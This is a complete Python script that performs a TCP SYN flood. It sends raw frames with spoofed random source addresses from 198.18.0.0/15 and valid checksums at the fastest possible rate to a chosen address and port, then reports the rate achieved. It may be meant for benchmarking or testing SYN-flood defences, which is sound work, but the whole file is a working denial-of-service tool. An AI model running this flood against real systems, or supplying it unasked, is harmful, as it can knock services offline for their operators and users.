#!/usr/bin/env python3
"""Sends SYNs from random sources as fast as this machine can.

    syn_flood.py INTERFACE GATEWAY_MAC ADDRESS PORT SECONDS

Prints `ready`, floods, and prints the rate in SYNs a second. Checksums are correct, so servers answer.
"""
import random
import socket
import struct
import sys
import time

FRAMES = 32768


def checksum(data):
    total = sum(struct.unpack(f"!{len(data) // 2}H", data))
    while total > 0xFFFF:
        total = (total & 0xFFFF) + (total >> 16)
    return ~total & 0xFFFF


def frame(ethernet, destination, port, rng):
    source = struct.pack("!I", 0xC6120000 | rng.getrandbits(17))  # 198.18.0.0/15
    tcp = struct.pack("!HHIIBBHHH", rng.randrange(1024, 65536), port, rng.getrandbits(32), 0, 5 << 4, 2, 64240, 0, 0)
    sum_tcp = checksum(source + destination + struct.pack("!BBH", 0, 6, len(tcp)) + tcp)
    tcp = tcp[:16] + struct.pack("!H", sum_tcp) + tcp[18:]
    ip = struct.pack("!BBHHHBBH", 0x45, 0, 40, rng.getrandbits(16), 0x4000, 64, 6, 0) + source + destination
    ip = ip[:10] + struct.pack("!H", checksum(ip)) + ip[12:]
    return ethernet + ip + tcp


def main(interface, gateway, address, port, seconds):
    end = socket.socket(socket.AF_PACKET, socket.SOCK_RAW)
    end.bind((interface, 0))
    own = end.getsockname()[4]
    ethernet = bytes.fromhex(gateway.replace(":", "")) + own + b"\x08\x00"
    rng = random.Random(7)
    frames = [frame(ethernet, socket.inet_aton(address), port, rng) for _ in range(FRAMES)]
    print("ready", flush=True)
    start, sent = time.monotonic(), 0
    while time.monotonic() - start < seconds:
        for one in frames[:4096] if sent == 0 else frames:
            try:
                end.send(one)
                sent += 1
            except OSError:
                pass  # the queue is full
    print(round(sent / (time.monotonic() - start)), flush=True)


main(sys.argv[1], sys.argv[2], sys.argv[3], int(sys.argv[4]), float(sys.argv[5]))
